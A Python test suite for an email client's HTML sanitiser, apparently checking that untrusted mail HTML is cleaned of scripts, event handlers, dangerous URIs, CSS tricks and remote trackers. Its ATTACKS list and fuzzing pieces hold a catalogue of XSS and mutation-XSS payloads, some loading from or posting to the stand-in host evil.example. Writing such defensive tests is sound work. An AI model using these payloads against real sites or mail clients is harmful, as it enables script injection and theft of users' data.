"""A stranger's page shows and does nothing else."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from hub.connector.mail import headers_only, read_mime
from hub.mail.body import ATTRIBUTES, STYLES, TAGS, sanitise, snippet, text_of, to_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>",
    "<a href='/accounts/1/remove'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-color:url(https://evil.example/p)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99'>x</div>",
    "<div style='color:red;\\70osition:fixed'>x</div>",
    "<div style='color:red/**/;po/**/sition:fixed'>x</div>",
    "<div style='font-family:\"a;position:fixed\"'>x</div>",
    "<div style='margin-top:-500px'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='color:var(--x)'>x</div>",
    "<table background='https://evil.example/p.gif'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.example/p 1x'>",
    "<video poster='https://evil.example/p'><source src='https://evil.example/v'></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p id='login' name='csrf_token' class='card'>x</p>",
    "<a href=https://a.example target=_self rel=opener ping=https://evil.example>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p title="`><img src=x onerror=alert(1)>">x</p>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1)//<</script>",
    '<a href="https://a.example/" style="display:block;width:10px" onmouseover=alert(1)>x</a>',
]  # fmt: skip


class Seen(HTMLParser):
    """What a browser would find in a page, read by another parser than the one that cleaned it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        self.found += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def assert_harmless(page: str) -> None:
    seen = Seen()
    seen.feed(page)
    seen.close()
    for tag, name, value in seen.found:
        if tag == "a" and name in {"target", "rel"}:
            assert value in {"_blank", "noopener noreferrer nofollow"}
            continue
        assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()), (tag, name)
        if name == "href":
            assert re.match(r"(?i)\s*(https?://|mailto:|tel:)", value), value
        if name == "src":
            assert value.startswith(("/ours/", "http://", "https://")), value
        if name == "style":
            names = {d.partition(":")[0].strip() for d in value.split(";") if d.strip()}
            assert names <= STYLES, value
            assert not re.search(r"(?i)url|expression|import|\\|javascript|-\d", value), value


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("remote", [False, True])
def test_an_attack_is_taken_out(attack: str, remote: bool) -> None:
    safe = sanitise(f"<p>Before</p>{attack}<p>After</p>", cid={"x": "/ours/1"}, remote_images=remote)
    assert_harmless(safe.html)
    assert "Before" in safe.html
    # No parser but the sanitiser's own is asked here: these must not even look dangerous.
    assert "<script" not in safe.html.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r"=\"[^\"]*\"", "", safe.html))
    assert not re.search(r"(?i)(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):", safe.html)


PIECES = st.sampled_from(
    [
        "<", ">", "</", "/>", "<p ", "<a href=", "<img src=", "<div style=", "<table><td background=", "<svg>", "<math>", "<mtext>", "<style>",
        "</style>", "<title>", "<noscript>", "</noscript>", "<template>", "<script>", "</script>", "<!--", "-->", "<![CDATA[", "]]>", '"', "'",
        "`", "=", " ", "\n", "\x00", "&#x6a;", "&Tab;", "&colon;", "&lt;", "javascript:", "data:text/html,", "https://a.example", "cid:x",
        "onerror=alert(1)", " onload=x", "color:red", ";", "position:fixed", "url(", ")", "expression(", "\\", "/*", "*/", "<form>", "<mglyph>",
        "<select>", "<textarea>", "<iframe srcdoc=", "<annotation-xml encoding='text/html'>", "<foreignObject>", "x", "שלום",
    ]
)  # fmt: skip


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(PIECES | st.text(max_size=6), max_size=40).map("".join), st.booleans())
@example("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", False)
def test_no_page_gets_anything_dangerous_through(page: str, remote: bool) -> None:
    safe = sanitise(page, cid={"x": "/ours/1"}, remote_images=remote).html
    assert_harmless(safe)
    assert "<script" not in safe.lower()
    to_text(page)
    # Cleaned again it is the same: there is nothing in it that a second reading would understand otherwise.
    inner = safe.split(">", 1)[1].removesuffix("</div>")
    assert sanitise(inner, cid={}, remote_images=True).html.count("<script") == 0


@pytest.mark.parametrize(
    ("page", "remote"),
    [
        ("<img src='https://t.example/p.gif'>", True),
        ("<img src='//t.example/p.gif'>", True),
        ("<IMG SRC=' HTTP://t.example/p.gif'>", True),
        ("<table background='https://t.example/p.gif'></table>", True),
        ("<div style=\"background-image:url('https://t.example/p.gif')\">x</div>", True),
        ("<style>p{background:url(//t.example/p)}</style>", True),
        ("<img srcset='https://t.example/p.gif 2x'>", True),
        ("<img src='cid:logo'>", False),
        ("<a href='https://t.example/'>x</a>", False),
        ("<p>url of the image: https://t.example/p.gif</p>", False),
    ],
)
def test_pictures_from_elsewhere_are_off_and_are_said(page: str, remote: bool) -> None:
    safe = sanitise(page, cid={"logo": "/ours/1"})
    assert safe.has_remote_images is remote
    assert "t.example/p" not in safe.html or not remote


def test_pictures_from_elsewhere_can_be_asked_for() -> None:
    safe = sanitise(
        "<img src='https://t.example/p.gif' width=600><img src='//t.example/q.gif'>", cid={}, remote_images=True
    )
    assert 'src="https://t.example/p.gif"' in safe.html
    assert "q.gif" not in safe.html
    assert safe.has_remote_images


def test_pictures_of_the_mail_itself_are_shown() -> None:
    page = "<img src='cid:Logo%40levi.example' alt=Logo><img src='cid:gone'>"
    safe = sanitise(page, cid={"<logo@levi.example>": "/ours/1"})
    assert safe.html == '<div dir="auto"><img src="/ours/1" alt="Logo"><img></div>'


def test_links_open_elsewhere_and_tell_nothing() -> None:
    safe = sanitise(
        "<a href='https://a.example/?q=1&r=2'>x</a><a href='mailto:a@b.example'>y</a><a href='tel:+4812'>z</a>", cid={}
    )
    assert safe.html.count('target="_blank" rel="noopener noreferrer nofollow"') == 3
    assert 'href="https://a.example/?q=1&amp;r=2"' in safe.html


def test_tables_direction_and_looks_stay() -> None:
    page = (
        '<html dir="RTL"><body><table width="600" cellpadding="0" bgcolor="#fff"><tr><td colspan="2" align="right" dir="ltr" lang="he" '
        "style=\"color:#333;padding:4px 8px;font-family:'Segoe UI', Arial;background-color:rgb(1, 2, 3)\">שלום</td></tr></table></body></html>"
    )
    safe = sanitise(page, cid={}).html
    assert safe.startswith('<div dir="rtl"><table')
    for kept in (
        'width="600"',
        'colspan="2"',
        'dir="ltr"',
        'lang="he"',
        "color:#333",
        "padding:4px 8px",
        "Segoe UI",
        "rgb(1, 2, 3)",
        "שלום",
    ):
        assert kept in safe


@pytest.mark.parametrize(
    "page",
    [
        "<div>" * 200_000,
        "&" * 1_000_000,
        "<" * 1_000_000,
        "<b><i>" * 100_000,
        "<table><tr><td>" * 50_000,
        "<p " + "a=b " * 200_000,
    ],
    ids=["deep", "entities", "angles", "formats", "tables", "attributes"],
)
def test_a_page_made_to_keep_us_busy_does_not(page: str) -> None:
    start = time.process_time()
    sanitise(page + "words", cid={})
    to_text(page + "words")
    assert time.process_time() - start < 15


def test_a_page_that_is_too_deep_still_says_its_words() -> None:
    page = "<div>" * 5000 + "<p onclick=x>words &lt;script&gt;</p>"
    assert "words &lt;script&gt;" in sanitise(page, cid={}).html
    assert to_text(page) == "words <script>"


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ("<p>Hi <b>there</b>,</p><p>one<br>two</p>", "Hi there,\n\none\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<blockquote>old<blockquote>older</blockquote></blockquote>new", "> old\n>\n> > older\n>\nnew"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<style>p{}</style><title>t</title><script>x</script>text<!-- no -->", "text"),
        ("<div style='display: none'>preview</div>text", "text"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("a&nbsp;b &amp; c &lt;d&gt;", "a b & c <d>"),
        ("Great <img alt='😀' src=x> <img alt='Company logo' src=y>", "Great 😀"),
        ("<p>שלום <bdi>Dana</bdi></p>", "שלום Dana"),
        ("plain", "plain"),
        ("", ""),
        ("<p>unclosed <b>bold", "unclosed bold"),
    ],
)
def test_a_page_as_text(page: str, text: str) -> None:
    assert to_text(page) == text


def test_the_text_of_a_mail_is_that_of_its_page_where_it_has_no_other() -> None:
    head = b"From: a@b.example\r\nContent-Type: text/html\r\n\r\n"
    assert text_of(read_mime(head + b"<p>Hi</p>")) == "Hi"
    assert text_of(headers_only({"From": "a@b.example"})) == ""


def test_a_snippet_is_one_short_line() -> None:
    assert snippet("  Hello\n\n  there ") == "Hello there"
    assert len(snippet("word " * 500)) <= 200
    assert snippet("word " * 500).endswith("…")
